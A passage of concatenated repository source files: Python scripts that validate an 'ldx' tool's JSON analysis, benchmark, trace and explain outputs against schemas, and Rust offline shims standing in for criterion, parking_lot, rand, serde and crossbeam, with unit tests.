    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--json", type=Path, help="ldx analyze JSON output")
    parser.add_argument("--dot", type=Path, help="ldx analyze DOT output")
    args = parser.parse_args()
    if not args.json and not args.dot:
        parser.error("nothing to check: pass --json and/or --dot")

    defs = json.loads(SCHEMA_PATH.read_text())["definitions"]
    try:
        if args.json:
            check_analysis(json.loads(args.json.read_text()), defs)
        if args.dot:
            check_dot(args.dot.read_text())
    except Invalid as err:
        print(f"FAIL {err}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
