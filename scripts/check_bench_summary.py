#!/usr/bin/env python3
"""Validate BENCH_<name>.json summaries against schemas/bench_summary_schema.json
and flag wall-clock regressions against the committed baseline.

Usage:
    check_bench_summary.py BENCH_table1.json [BENCH_figure6.json ...]
    check_bench_summary.py --strict BENCH_*.json   # regressions become failures

Each summary's wall_ns is compared to scripts/bench_baseline.json (keyed
by bench name, recorded on a warm developer machine). A summary more
than 20% slower than its baseline is reported; by default that's a
warning — CI machines are noisy — and only --strict turns it into a
non-zero exit. A bench missing from the baseline is fine (new bench);
the message suggests re-recording.
"""

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
SCHEMA_PATH = HERE.parent / "schemas" / "bench_summary_schema.json"
BASELINE_PATH = HERE / "bench_baseline.json"
REGRESSION_THRESHOLD = 1.20

TYPES = {
    "object": dict,
    "array": list,
    "string": str,
    "boolean": bool,
    "number": (int, float),
}


class Invalid(Exception):
    pass


def fail(path, message):
    raise Invalid(f"{path or '$'}: {message}")


def validate(value, schema, path=""):
    if "enum" in schema:
        if value not in schema["enum"]:
            fail(path, f"{value!r} not in {schema['enum']}")
        return
    typ = schema.get("type")
    if typ == "integer":
        if not isinstance(value, int) or isinstance(value, bool):
            fail(path, f"expected integer, got {type(value).__name__}")
    elif typ is not None:
        expected = TYPES[typ]
        if not isinstance(value, expected):
            fail(path, f"expected {typ}, got {type(value).__name__}")
    if "minimum" in schema and value < schema["minimum"]:
        fail(path, f"{value} < minimum {schema['minimum']}")
    if isinstance(value, dict):
        for key in schema.get("required", ()):
            if key not in value:
                fail(path, f"missing required key {key!r}")
        props = schema.get("properties", {})
        extra = schema.get("additionalProperties")
        for key, item in value.items():
            if key in props:
                validate(item, props[key], f"{path}.{key}")
            elif isinstance(extra, dict):
                validate(item, extra, f"{path}.{key}")
    if isinstance(value, list):
        item_schema = schema.get("items")
        if isinstance(item_schema, dict):
            for i, item in enumerate(value):
                validate(item, item_schema, f"{path}[{i}]")


def main():
    args = sys.argv[1:]
    strict = "--strict" in args
    files = [Path(a) for a in args if a != "--strict"]
    if not files:
        print(__doc__, file=sys.stderr)
        return 2

    schema = json.loads(SCHEMA_PATH.read_text())
    baseline = {}
    if BASELINE_PATH.exists():
        baseline = json.loads(BASELINE_PATH.read_text()).get("wall_ns", {})

    regressions = []
    try:
        for f in files:
            summary = json.loads(f.read_text())
            validate(summary, schema, f.name)
            name = summary["name"]
            wall = summary["wall_ns"]
            base = baseline.get(name)
            if base is None:
                print(
                    f"{f.name}: {wall / 1e6:.1f} ms, no baseline for "
                    f"{name!r} (re-record scripts/bench_baseline.json)"
                )
                continue
            ratio = wall / max(base, 1)
            verdict = "ok"
            if ratio > REGRESSION_THRESHOLD:
                verdict = f"REGRESSION (> {REGRESSION_THRESHOLD:.0%} of baseline)"
                regressions.append((name, ratio))
            print(
                f"{f.name}: {wall / 1e6:.1f} ms vs baseline "
                f"{base / 1e6:.1f} ms ({ratio:.2f}x) {verdict}"
            )
    except Invalid as err:
        print(f"FAIL {err}", file=sys.stderr)
        return 1

    if regressions:
        for name, ratio in regressions:
            print(f"WARN {name} is {ratio:.2f}x its baseline", file=sys.stderr)
        if strict:
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
