#!/usr/bin/env python3
"""Validate ldx-obs output files against schemas/obs_schema.json.

Usage:
    check_obs_output.py --trace obs_trace.json --metrics obs_metrics.json

Stdlib-only: implements the JSON-Schema subset the schema file actually
uses (type, required, properties, additionalProperties-as-schema, items,
enum, minimum, minItems, $ref into #/definitions). On top of the schema,
it asserts trace semantics the schema cannot express: the span categories
the acceptance criteria require, monotonically plausible timestamps, and
`dur` present exactly on complete ("X") events.
"""

import argparse
import json
import sys
from pathlib import Path

SCHEMA_PATH = Path(__file__).resolve().parent.parent / "schemas" / "obs_schema.json"

REQUIRED_TRACE_CATEGORIES = {
    "compile",
    "master",
    "slave",
    "syscall-decision",
    "barrier-wait",
}

TYPES = {
    "object": dict,
    "array": list,
    "string": str,
    "boolean": bool,
    "number": (int, float),
}


class Invalid(Exception):
    pass


def fail(path, message):
    raise Invalid(f"{path or '$'}: {message}")


def validate(value, schema, defs, path=""):
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        validate(value, defs[name], defs, path)
        return
    if "enum" in schema:
        if value not in schema["enum"]:
            fail(path, f"{value!r} not in {schema['enum']}")
        return
    typ = schema.get("type")
    if typ == "integer":
        if not isinstance(value, int) or isinstance(value, bool):
            fail(path, f"expected integer, got {type(value).__name__}")
    elif typ is not None:
        expected = TYPES[typ]
        if not isinstance(value, expected) or (
            typ == "number" and isinstance(value, bool)
        ):
            fail(path, f"expected {typ}, got {type(value).__name__}")
    if "minimum" in schema and value < schema["minimum"]:
        fail(path, f"{value} < minimum {schema['minimum']}")
    if isinstance(value, dict):
        for key in schema.get("required", ()):
            if key not in value:
                fail(path, f"missing required key {key!r}")
        props = schema.get("properties", {})
        extra = schema.get("additionalProperties")
        for key, item in value.items():
            if key in props:
                validate(item, props[key], defs, f"{path}.{key}")
            elif isinstance(extra, dict):
                validate(item, extra, defs, f"{path}.{key}")
    if isinstance(value, list):
        if "minItems" in schema and len(value) < schema["minItems"]:
            fail(path, f"{len(value)} items < minItems {schema['minItems']}")
        item_schema = schema.get("items")
        if isinstance(item_schema, dict):
            for i, item in enumerate(value):
                validate(item, item_schema, defs, f"{path}[{i}]")


def check_trace(events, defs):
    validate(events, defs["trace"], defs, "trace")
    cats = {e["cat"] for e in events}
    missing = REQUIRED_TRACE_CATEGORIES - cats
    if missing:
        fail("trace", f"missing required span categories: {sorted(missing)}")
    flow_starts, flow_finishes = {}, {}
    for i, e in enumerate(events):
        if e["ph"] == "X" and "dur" not in e:
            fail(f"trace[{i}]", "complete event without dur")
        if e["ph"] == "i" and e.get("s") != "t":
            fail(f"trace[{i}]", 'instant event without "s": "t"')
        if e["ph"] in ("s", "f"):
            if "id" not in e:
                fail(f"trace[{i}]", "flow event without id")
            if "dur" in e:
                fail(f"trace[{i}]", "flow event with dur")
            side = flow_starts if e["ph"] == "s" else flow_finishes
            side[e["id"]] = (e["cat"], e["name"])
            if e["ph"] == "f" and e.get("bp") != "e":
                fail(f"trace[{i}]", 'flow finish without "bp": "e"')
    # Every arrow that has both ends must agree on cat+name (the Chrome
    # pairing key); one-ended arrows are legal (the peer span may have
    # been evicted from the ring).
    for fid in flow_starts.keys() & flow_finishes.keys():
        if flow_starts[fid] != flow_finishes[fid]:
            fail("trace", f"flow id {fid} ends disagree on cat/name")
    print(
        f"trace ok: {len(events)} events, "
        f"{len(cats)} categories ({', '.join(sorted(cats))}), "
        f"{len(flow_starts)} flow arrows"
    )


def check_metrics(metrics, defs):
    validate(metrics, defs["metrics"], defs, "metrics")
    counters = metrics["counters"]
    if counters["dualex.runs"] == 0:
        fail("metrics.counters", "dualex.runs is 0 — nothing was measured")
    if counters["cache.compiles"] == 0:
        fail("metrics.counters", "cache.compiles is 0 — nothing was compiled")
    print(
        f"metrics ok: {len(counters)} counters, "
        f"{len(metrics['histograms'])} histograms, "
        f"{len(metrics['stalls'])} stall barriers, "
        f"{metrics['trace']['recorded']} trace events recorded"
    )


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--trace", type=Path, help="Chrome trace_event JSON")
    parser.add_argument("--metrics", type=Path, help="flat metrics JSON")
    args = parser.parse_args()
    if not args.trace and not args.metrics:
        parser.error("nothing to check: pass --trace and/or --metrics")

    defs = json.loads(SCHEMA_PATH.read_text())["definitions"]
    try:
        if args.trace:
            check_trace(json.loads(args.trace.read_text()), defs)
        if args.metrics:
            check_metrics(json.loads(args.metrics.read_text()), defs)
    except Invalid as err:
        print(f"FAIL {err}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
