#!/usr/bin/env python3
"""Validate `ldx explain` reports against schemas/explain_schema.json.

Usage:
    check_explain_output.py explain_out/            # a directory of explain_*.json
    check_explain_output.py report.json [more.json] # individual files

Stdlib-only: implements the JSON-Schema subset the schema file actually
uses (type incl. "null", anyOf, required, properties,
additionalProperties-as-schema, items, enum, minimum, $ref into
#/definitions). On top of the schema it asserts semantics the schema
cannot express: every chain's source_index names a source the report
marks causal, a chain's sink always carries a syscall name, and a
statically-independent source is never causal (the sdep soundness
contract surfaced through explain).
"""

import json
import sys
from pathlib import Path

SCHEMA_PATH = Path(__file__).resolve().parent.parent / "schemas" / "explain_schema.json"

TYPES = {
    "object": dict,
    "array": list,
    "string": str,
    "boolean": bool,
    "number": (int, float),
    "null": type(None),
}


class Invalid(Exception):
    pass


def fail(path, message):
    raise Invalid(f"{path or '$'}: {message}")


def validate(value, schema, defs, path=""):
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        validate(value, defs[name], defs, path)
        return
    if "anyOf" in schema:
        errors = []
        for option in schema["anyOf"]:
            try:
                validate(value, option, defs, path)
                return
            except Invalid as err:
                errors.append(str(err))
        fail(path, f"no anyOf branch matched: {errors}")
    if "enum" in schema:
        if value not in schema["enum"]:
            fail(path, f"{value!r} not in {schema['enum']}")
        return
    typ = schema.get("type")
    if typ == "integer":
        if not isinstance(value, int) or isinstance(value, bool):
            fail(path, f"expected integer, got {type(value).__name__}")
    elif typ is not None:
        expected = TYPES[typ]
        if not isinstance(value, expected) or (
            typ == "number" and isinstance(value, bool)
        ):
            fail(path, f"expected {typ}, got {type(value).__name__}")
    if "minimum" in schema and value < schema["minimum"]:
        fail(path, f"{value} < minimum {schema['minimum']}")
    if isinstance(value, dict):
        for key in schema.get("required", ()):
            if key not in value:
                fail(path, f"missing required key {key!r}")
        props = schema.get("properties", {})
        extra = schema.get("additionalProperties")
        for key, item in value.items():
            if key in props:
                validate(item, props[key], defs, f"{path}.{key}")
            elif isinstance(extra, dict):
                validate(item, extra, defs, f"{path}.{key}")
    if isinstance(value, list):
        item_schema = schema.get("items")
        if isinstance(item_schema, dict):
            for i, item in enumerate(value):
                validate(item, item_schema, defs, f"{path}[{i}]")


def check_report(report, schema, defs, label):
    validate(report, schema, defs, label)
    causal = {s["index"] for s in report["sources"] if s["causal"]}
    for i, chain in enumerate(report["chains"]):
        where = f"{label}.chains[{i}]"
        if chain["source_index"] not in causal:
            fail(where, "chain for a source the report does not mark causal")
        if not chain["sink"]["sys"]:
            fail(where, "chain sink without a syscall name")
    for s in report["sources"]:
        if s["statically_independent"] and s["causal"]:
            fail(
                f"{label}.sources[{s['index']}]",
                "statically independent source marked causal "
                "(sdep soundness violation)",
            )
    return len(report["chains"]), len(causal)


def main():
    if len(sys.argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    files = []
    for arg in sys.argv[1:]:
        p = Path(arg)
        if p.is_dir():
            files.extend(sorted(p.glob("explain_*.json")))
        else:
            files.append(p)
    if not files:
        print("FAIL no explain_*.json files found", file=sys.stderr)
        return 1

    schema = json.loads(SCHEMA_PATH.read_text())
    defs = schema["definitions"]
    chains = causal = 0
    try:
        for f in files:
            c, s = check_report(json.loads(f.read_text()), schema, defs, f.name)
            chains += c
            causal += s
    except Invalid as err:
        print(f"FAIL {err}", file=sys.stderr)
        return 1
    print(
        f"explain ok: {len(files)} reports, {causal} causal sources, "
        f"{chains} provenance chains"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
