//! Offline shim for `criterion`: `criterion_group!`/`criterion_main!`,
//! benchmark groups, and `Bencher::iter`, timing each closure with
//! `std::time::Instant` and printing median/min/max. Statistical
//! machinery (outlier detection, HTML reports) is intentionally absent;
//! relative comparisons and `cargo bench --no-run` compile checks are
//! the supported uses.

use std::fmt;
use std::time::{Duration, Instant};

/// The benchmark driver.
pub struct Criterion {
    sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { sample_size: 10 }
    }
}

impl Criterion {
    /// Accepted for source compatibility with generated mains.
    #[must_use]
    pub fn configure_from_args(self) -> Self {
        self
    }

    /// Opens a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: impl fmt::Display) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.to_string(),
            sample_size: self.sample_size,
            _parent: self,
        }
    }

    /// Runs a single named benchmark.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, name: impl fmt::Display, f: F) {
        run_one(&name.to_string(), self.sample_size, f);
    }
}

/// A group of related benchmarks sharing configuration.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: usize,
    _parent: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timing samples per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(1);
        self
    }

    /// Runs one benchmark within the group.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: impl fmt::Display, f: F) {
        run_one(&format!("{}/{}", self.name, id), self.sample_size, f);
    }

    /// Finishes the group (printing is per-benchmark here).
    pub fn finish(self) {}
}

/// Identifies a benchmark within a group.
pub struct BenchmarkId(String);

impl BenchmarkId {
    /// An id that is just the parameter's display form.
    pub fn from_parameter(p: impl fmt::Display) -> Self {
        BenchmarkId(p.to_string())
    }

    /// An id of the form `name/parameter`.
    pub fn new(name: impl fmt::Display, p: impl fmt::Display) -> Self {
        BenchmarkId(format!("{name}/{p}"))
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Times closures passed to [`Bencher::iter`].
pub struct Bencher {
    samples: Vec<Duration>,
    sample_size: usize,
}

impl Bencher {
    /// Times `sample_size` invocations of `f` (after one warm-up call).
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        std::hint::black_box(f());
        for _ in 0..self.sample_size {
            let start = Instant::now();
            std::hint::black_box(f());
            self.samples.push(start.elapsed());
        }
    }
}

fn run_one<F: FnMut(&mut Bencher)>(label: &str, sample_size: usize, mut f: F) {
    let mut b = Bencher {
        samples: Vec::new(),
        sample_size,
    };
    f(&mut b);
    if b.samples.is_empty() {
        println!("{label:<50} (no samples)");
        return;
    }
    b.samples.sort();
    let median = b.samples[b.samples.len() / 2];
    let min = b.samples[0];
    let max = b.samples[b.samples.len() - 1];
    println!("{label:<50} median {median:>10.2?}   min {min:>10.2?}   max {max:>10.2?}");
}

/// Declares a function running the listed benchmark targets.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares `main` running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_and_times() {
        let mut c = Criterion::default();
        let mut calls = 0u32;
        c.bench_function("shim/self-test", |b| {
            b.iter(|| {
                calls += 1;
            })
        });
        // one warm-up + sample_size timed calls
        assert_eq!(calls, 11);
    }

    #[test]
    fn groups_respect_sample_size() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("g");
        group.sample_size(3);
        let mut calls = 0u32;
        group.bench_function(BenchmarkId::from_parameter("x"), |b| {
            b.iter(|| {
                calls += 1;
            })
        });
        group.finish();
        assert_eq!(calls, 4);
    }
}
