//! Offline shim for `parking_lot`: `Mutex`, `Condvar`, and `RwLock`
//! backed by `std::sync`, with parking_lot's panic-free, non-poisoning
//! API. See `shims/README.md`.

use std::fmt;
use std::ops::{Deref, DerefMut};
use std::sync::PoisonError;
use std::time::Duration;

/// A mutual exclusion primitive (non-poisoning `lock()`).
#[derive(Default)]
pub struct Mutex<T: ?Sized>(std::sync::Mutex<T>);

/// RAII guard for [`Mutex`].
pub struct MutexGuard<'a, T: ?Sized>(Option<std::sync::MutexGuard<'a, T>>);

impl<T> Mutex<T> {
    /// Creates a new mutex.
    pub const fn new(value: T) -> Self {
        Mutex(std::sync::Mutex::new(value))
    }

    /// Consumes the mutex, returning the inner value.
    pub fn into_inner(self) -> T {
        self.0.into_inner().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> Mutex<T> {
    /// Acquires the mutex, ignoring poisoning (parking_lot semantics).
    pub fn lock(&self) -> MutexGuard<'_, T> {
        MutexGuard(Some(self.0.lock().unwrap_or_else(PoisonError::into_inner)))
    }

    /// Attempts to acquire the mutex without blocking.
    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.0.try_lock() {
            Ok(g) => Some(MutexGuard(Some(g))),
            Err(std::sync::TryLockError::Poisoned(p)) => Some(MutexGuard(Some(p.into_inner()))),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Mutable access without locking.
    pub fn get_mut(&mut self) -> &mut T {
        self.0.get_mut().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> Deref for MutexGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        self.0.as_ref().expect("guard present")
    }
}

impl<T: ?Sized> DerefMut for MutexGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        self.0.as_mut().expect("guard present")
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.try_lock() {
            Some(g) => f.debug_struct("Mutex").field("data", &&*g).finish(),
            None => f.debug_struct("Mutex").field("data", &"<locked>").finish(),
        }
    }
}

/// Result of a timed [`Condvar`] wait.
#[derive(Debug, Clone, Copy)]
pub struct WaitTimeoutResult(bool);

impl WaitTimeoutResult {
    /// Whether the wait ended by timeout (vs a notification).
    pub fn timed_out(self) -> bool {
        self.0
    }
}

/// A condition variable paired with [`Mutex`] guards.
#[derive(Default)]
pub struct Condvar(std::sync::Condvar);

impl Condvar {
    /// Creates a new condition variable.
    pub const fn new() -> Self {
        Condvar(std::sync::Condvar::new())
    }

    /// Blocks until notified.
    pub fn wait<T>(&self, guard: &mut MutexGuard<'_, T>) {
        let inner = guard.0.take().expect("guard present");
        let inner = self.0.wait(inner).unwrap_or_else(PoisonError::into_inner);
        guard.0 = Some(inner);
    }

    /// Blocks until notified or the timeout elapses.
    pub fn wait_for<T>(
        &self,
        guard: &mut MutexGuard<'_, T>,
        timeout: Duration,
    ) -> WaitTimeoutResult {
        let inner = guard.0.take().expect("guard present");
        let (inner, result) = self
            .0
            .wait_timeout(inner, timeout)
            .unwrap_or_else(PoisonError::into_inner);
        guard.0 = Some(inner);
        WaitTimeoutResult(result.timed_out())
    }

    /// Wakes one waiter.
    pub fn notify_one(&self) {
        self.0.notify_one();
    }

    /// Wakes all waiters.
    pub fn notify_all(&self) {
        self.0.notify_all();
    }
}

impl fmt::Debug for Condvar {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Condvar")
    }
}

/// A reader-writer lock (non-poisoning).
#[derive(Default)]
pub struct RwLock<T: ?Sized>(std::sync::RwLock<T>);

impl<T> RwLock<T> {
    /// Creates a new lock.
    pub const fn new(value: T) -> Self {
        RwLock(std::sync::RwLock::new(value))
    }

    /// Consumes the lock, returning the inner value.
    pub fn into_inner(self) -> T {
        self.0.into_inner().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> RwLock<T> {
    /// Acquires a shared read guard.
    pub fn read(&self) -> std::sync::RwLockReadGuard<'_, T> {
        self.0.read().unwrap_or_else(PoisonError::into_inner)
    }

    /// Acquires an exclusive write guard.
    pub fn write(&self) -> std::sync::RwLockWriteGuard<'_, T> {
        self.0.write().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("RwLock")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn mutex_roundtrip() {
        let m = Mutex::new(1);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
        assert_eq!(m.into_inner(), 2);
    }

    #[test]
    fn condvar_wait_for_times_out() {
        let m = Mutex::new(());
        let cv = Condvar::new();
        let mut g = m.lock();
        assert!(cv.wait_for(&mut g, Duration::from_millis(1)).timed_out());
    }

    #[test]
    fn condvar_notifies_across_threads() {
        let pair = Arc::new((Mutex::new(false), Condvar::new()));
        let p2 = Arc::clone(&pair);
        let t = std::thread::spawn(move || {
            let (m, cv) = &*p2;
            *m.lock() = true;
            cv.notify_all();
        });
        let (m, cv) = &*pair;
        let mut done = m.lock();
        while !*done {
            cv.wait_for(&mut done, Duration::from_millis(2));
        }
        t.join().unwrap();
        assert!(*done);
    }

    #[test]
    fn lock_survives_a_panicked_holder() {
        let m = Arc::new(Mutex::new(7));
        let m2 = Arc::clone(&m);
        let _ = std::thread::spawn(move || {
            let _g = m2.lock();
            panic!("poison the std mutex");
        })
        .join();
        assert_eq!(*m.lock(), 7);
    }
}
