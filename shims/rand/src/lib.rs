//! Offline shim for `rand`: a SplitMix64-backed `StdRng` with the
//! `SeedableRng` / `RngExt` surface the workspace uses (`seed_from_u64`,
//! `random_range` over integer ranges, `random_bool`). Deterministic for
//! a given seed, like the original with `seed_from_u64`.

use std::ops::{Range, RangeInclusive};

/// A source of pseudo-random 64-bit words.
pub trait RngCore {
    /// The next word of the stream.
    fn next_u64(&mut self) -> u64;
}

/// Construction from seeds.
pub trait SeedableRng: Sized {
    /// Builds a generator from a 64-bit seed.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Integer types samplable from a uniform range.
pub trait SampleUniform: Copy {
    /// Samples uniformly from `[low, high)`; `low < high` is the
    /// caller's contract (mirroring rand's panic on empty ranges).
    fn sample_half_open(low: Self, high: Self, rng: &mut dyn RngCore) -> Self;
    /// One past `self` (for inclusive ranges); saturates at the maximum.
    fn successor(self) -> Self;
}

macro_rules! impl_sample_uniform {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_half_open(low: Self, high: Self, rng: &mut dyn RngCore) -> Self {
                assert!(low < high, "cannot sample empty range {low}..{high}");
                let span = (high as i128 - low as i128) as u128;
                let v = (rng.next_u64() as u128) % span;
                (low as i128 + v as i128) as $t
            }
            fn successor(self) -> Self {
                self.saturating_add(1)
            }
        }
    )*};
}

impl_sample_uniform!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize);

/// Ranges a generator can sample from.
pub trait SampleRange {
    /// The sampled element type.
    type Out;
    /// Samples one element.
    fn sample(self, rng: &mut dyn RngCore) -> Self::Out;
}

impl<T: SampleUniform> SampleRange for Range<T> {
    type Out = T;
    fn sample(self, rng: &mut dyn RngCore) -> T {
        T::sample_half_open(self.start, self.end, rng)
    }
}

impl<T: SampleUniform> SampleRange for RangeInclusive<T> {
    type Out = T;
    fn sample(self, rng: &mut dyn RngCore) -> T {
        let (start, end) = self.into_inner();
        T::sample_half_open(start, end.successor(), rng)
    }
}

/// Convenience sampling methods (rand's `Rng`/`RngExt` surface).
pub trait RngExt: RngCore {
    /// Uniform sample from an integer range.
    fn random_range<R: SampleRange>(&mut self, range: R) -> R::Out
    where
        Self: Sized,
    {
        range.sample(self)
    }

    /// Bernoulli sample with probability `p` of `true`.
    fn random_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        ((self.next_u64() >> 11) as f64 / (1u64 << 53) as f64) < p
    }
}

impl<R: RngCore> RngExt for R {}

/// Named generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// The standard generator: SplitMix64 (deterministic per seed).
    #[derive(Debug, Clone)]
    pub struct StdRng {
        state: u64,
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            StdRng { state: seed }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{RngExt, SeedableRng};

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.random_range(0..1000), b.random_range(0..1000));
        }
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let v = rng.random_range(3..9);
            assert!((3..9).contains(&v));
            let w = rng.random_range(1..=4u32);
            assert!((1..=4).contains(&w));
            let n: i64 = rng.random_range(-5i64..5);
            assert!((-5..5).contains(&n));
        }
    }

    #[test]
    fn bool_probabilities_are_sane() {
        let mut rng = StdRng::seed_from_u64(1);
        let hits = (0..10_000).filter(|_| rng.random_bool(0.25)).count();
        assert!((1_500..3_500).contains(&hits), "{hits}");
        assert!(!(0..100).any(|_| rng.random_bool(0.0)));
        assert!((0..100).all(|_| rng.random_bool(1.0)));
    }
}
