//! Offline shim for `serde`: the `Serialize`/`Deserialize` trait names
//! and (behind the `derive` feature) no-op derive macros, enough to keep
//! type definitions source-compatible with real serde. The workspace
//! serializes reports through its own tiny text writers, never through
//! serde's data model, so the traits carry no methods here.

/// Marker stand-in for `serde::Serialize`.
pub trait Serialize {}

/// Marker stand-in for `serde::Deserialize`.
pub trait Deserialize<'de> {}

#[cfg(feature = "derive")]
pub use serde_derive::{Deserialize, Serialize};
