//! No-op derive macros for the offline `serde` shim: `#[derive(Serialize,
//! Deserialize)]` expands to nothing. The workspace derives the traits
//! only to keep type definitions source-compatible with real serde; no
//! code path serializes through the trait machinery (reports are written
//! with the repo's own tiny text writers).

use proc_macro::TokenStream;

/// Expands to nothing (accepts and ignores `#[serde(...)]` attributes).
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

/// Expands to nothing (accepts and ignores `#[serde(...)]` attributes).
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}
