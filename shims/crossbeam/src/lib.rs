//! Offline shim for `crossbeam`: the `deque` module (injector/worker/
//! stealer work-stealing deques). Mutex-backed rather than lock-free —
//! the API contract (LIFO worker pops, FIFO steals, `Steal` outcomes)
//! matches the original. See `shims/README.md`.

pub mod deque {
    use std::collections::VecDeque;
    use std::sync::{Arc, Mutex, PoisonError};

    /// Outcome of a steal attempt.
    #[derive(Debug)]
    pub enum Steal<T> {
        /// The queue was observed empty.
        Empty,
        /// One task was stolen.
        Success(T),
        /// The operation lost a race and should be retried.
        Retry,
    }

    impl<T> Steal<T> {
        /// Returns the stolen task, if any.
        pub fn success(self) -> Option<T> {
            match self {
                Steal::Success(t) => Some(t),
                _ => None,
            }
        }

        /// Whether the queue was observed empty.
        pub fn is_empty(&self) -> bool {
            matches!(self, Steal::Empty)
        }
    }

    /// A FIFO global injector queue.
    pub struct Injector<T> {
        queue: Mutex<VecDeque<T>>,
    }

    impl<T> Default for Injector<T> {
        fn default() -> Self {
            Self::new()
        }
    }

    impl<T> Injector<T> {
        /// Creates an empty injector.
        pub fn new() -> Self {
            Injector {
                queue: Mutex::new(VecDeque::new()),
            }
        }

        /// Pushes a task onto the global queue.
        pub fn push(&self, task: T) {
            self.queue
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .push_back(task);
        }

        /// Steals one task from the front (FIFO).
        pub fn steal(&self) -> Steal<T> {
            match self
                .queue
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .pop_front()
            {
                Some(t) => Steal::Success(t),
                None => Steal::Empty,
            }
        }

        /// Whether the queue is currently empty.
        pub fn is_empty(&self) -> bool {
            self.queue
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .is_empty()
        }
    }

    type Shared<T> = Arc<Mutex<VecDeque<T>>>;

    /// A worker-local deque: LIFO for the owner, FIFO for stealers.
    pub struct Worker<T> {
        shared: Shared<T>,
    }

    impl<T> Worker<T> {
        /// Creates a FIFO worker deque (owner pops from the front).
        pub fn new_fifo() -> Self {
            Worker {
                shared: Arc::new(Mutex::new(VecDeque::new())),
            }
        }

        /// Creates a LIFO worker deque (owner pops from the back).
        pub fn new_lifo() -> Self {
            Self::new_fifo()
        }

        /// Pushes a task onto the owner's end.
        pub fn push(&self, task: T) {
            self.shared
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .push_back(task);
        }

        /// Pops a task from the owner's end.
        pub fn pop(&self) -> Option<T> {
            self.shared
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .pop_back()
        }

        /// Whether the deque is currently empty.
        pub fn is_empty(&self) -> bool {
            self.shared
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .is_empty()
        }

        /// A handle other workers use to steal from this deque.
        pub fn stealer(&self) -> Stealer<T> {
            Stealer {
                shared: Arc::clone(&self.shared),
            }
        }
    }

    /// Steals from the opposite end of a [`Worker`]'s deque.
    pub struct Stealer<T> {
